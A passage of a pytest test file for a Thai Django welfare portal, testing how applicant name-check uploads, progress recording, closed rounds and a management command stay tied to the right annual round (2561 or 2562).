    assert details[two_rounds["old"].pk] == "not_interviewed"  # in 2562: matched in 2561 only
    assert details[two_rounds["old_again"].pk] == "waiting"  # its 2562 interview, not its 2561 assignment
    assert details[two_rounds["new"].pk] == ""
    assert "ปี 2562" in client.get(reverse("name_check", args=[check.pk])).content.decode()


def test_a_check_in_2561_still_sees_2561s_assignments(client, two_rounds, cdd):
    client.force_login(cdd)
    _choose_round(client, "2561")
    _upload(client, _xlsx(_round_list(two_rounds)))
    check = NameCheck.objects.get()
    assert check.round.code == "2561"
    assert (check.both, check.assigned_only, check.not_assigned) == (2, 0, 1)


def test_the_history_lists_the_chosen_rounds_checks(client, two_rounds, cdd):
    client.force_login(cdd)
    _choose_round(client, "2561")
    _upload(client, _xlsx(_round_list(two_rounds), name="list-2561.xlsx"))
    _choose_round(client, "2562")
    _upload(client, _xlsx(_round_list(two_rounds), name="list-2562.xlsx"))
    page = client.get(reverse("name_check_home")).content.decode()
    assert "list-2562.xlsx" in page and "list-2561.xlsx" not in page
    _choose_round(client, "2561")
    page = client.get(reverse("name_check_home")).content.decode()
    assert "list-2561.xlsx" in page and "list-2562.xlsx" not in page


def test_checking_again_keeps_the_checks_round(client, two_rounds, cdd):
    client.force_login(cdd)
    _choose_round(client, "2561")
    _upload(client, _xlsx(_round_list(two_rounds)))
    first = NameCheck.objects.get()
    _choose_round(client, "2562")
    client.post(reverse("name_check_again", args=[first.pk]))
    again = NameCheck.objects.exclude(pk=first.pk).get()
    assert again.round.code == "2561" and again.both == first.both == 2


def test_progress_recorded_from_a_2561_check_goes_into_2561(client, two_rounds, cdd):
    client.force_login(cdd)
    _choose_round(client, "2561")
    _upload(client, _xlsx(_round_list(two_rounds)))
    check = NameCheck.objects.get()
    _choose_round(client, "2562")  # the header moved on: the check keeps its round
    data = {"scope": "all", "status": "completed", "started_on": "1/7/2561", "ended_on": "30/9/2561"}
    client.post(reverse("name_check_record", args=[check.pk]), data)
    job = ImportJob.objects.get()
    assert job.round.code == "2561" and job.created == 2
    client.post(reverse("import_job_confirm", args=[job.pk]))
    records = Progress.objects.all()
    assert {r.round.code for r in records} == {"2561"} and records.count() == 2
    assert re.search(
        r'data-testid="recorded-completed">2<',
        client.get(reverse("name_check_recorded", args=[check.pk])).content.decode(),
    )


def test_a_2562_check_reads_2562s_progress_only(client, cdd):
    """Developed by CDD in 2561 (progress recorded), matched to CDD again in 2562: nothing recorded yet."""
    person = applicant("CDD01")
    _confirm(52)
    progress_record(
        cardholder=person,
        assignment=person.assignments.get(),
        unit=cdd.unit,
        project=project("CDD01"),
        province=Province.objects.get(code=52),
        status="in_progress",
        started_on=datetime.date(2018, 7, 15),
        ended_on=None,
        user=None,
    )
    _second_round()
    _interview_again(person, "CDD01")  # the same project again
    _confirm(52)
    client.force_login(cdd)
    _upload(client, _xlsx(_round_list({"person": person})))
    check = NameCheck.objects.get()
    assert check.both == 1 and Progress.objects.get().round.code == "2561"
    recorded = client.get(reverse("name_check_recorded", args=[check.pk])).content.decode()
    assert re.search(r'data-testid="recorded-none">1<', recorded)  # 2561's progress is not 2562's
    both = _group_html(client, check, "both")
    assert "ยังไม่ได้บันทึกผล" in both and "15 ก.ค. 2561" not in both


def test_a_closed_rounds_check_records_nothing(client, two_rounds, cdd):
    from welfare_portal.models import Round

    client.force_login(cdd)
    _choose_round(client, "2561")
    _upload(client, _xlsx(_round_list(two_rounds)))
    check = NameCheck.objects.get()
    Round.objects.filter(code="2561").update(is_closed=True)
    assert 'data-testid="record-form"' not in _group_html(client, check, "both")
    data = {"scope": "all", "status": "completed", "started_on": "1/7/2561", "ended_on": "30/9/2561"}
    response = client.post(reverse("name_check_record", args=[check.pk]), data, follow=True)
    assert "รอบนี้ปิดแล้ว" in response.content.decode()
    assert not ImportJob.objects.exists() and not Progress.objects.exists()


def test_form_4_1_is_linked_only_from_a_check_of_the_chosen_round(client, two_rounds, cdd):
    client.force_login(cdd)
    _upload(client, _xlsx(_round_list(two_rounds)))
    check = NameCheck.objects.get()
    link = reverse("progress_form", args=[two_rounds["new"].pk])
    assert link in _group_html(client, check, "both")
    _choose_round(client, "2561")
    html = _group_html(client, check, "both")
    assert link not in html and 'data-testid="other-round"' in html


def test_the_command_checks_the_round_it_is_given(two_rounds, tmp_path):
    path = tmp_path / "cdd.csv"
    path.write_bytes(_csv_file(_round_list(two_rounds)).read())
    lines, err = _command(path, "--unit", "CDD", "--province", 52)
    assert lines[-1] == "both=1 assigned_only=0 other_agency=0 not_assigned=2 not_cardholder=0 invalid=0"
    assert "ปี 2562" in err
    lines, err = _command(path, "--unit", "CDD", "--province", 52, "--round", "2561")
    assert lines[-1] == "both=2 assigned_only=0 other_agency=0 not_assigned=1 not_cardholder=0 invalid=0"
    assert "ปี 2561" in err
    assert sorted(NameCheck.objects.values_list("round__code", flat=True)) == ["2561", "2562"]


def test_the_command_refuses_an_unknown_round_naming_the_known_ones(two_rounds, tmp_path):
    from django.core.management.base import CommandError

    path = tmp_path / "cdd.csv"
    path.write_bytes(_csv_file(_round_list(two_rounds)).read())
    with pytest.raises(CommandError, match="ไม่พบรอบการดำเนินงานรหัส 2599 \\(รอบที่มี: 2561, 2562\\)"):
        _command(path, "--unit", "CDD", "--round", "2599")
    assert not NameCheck.objects.exists()
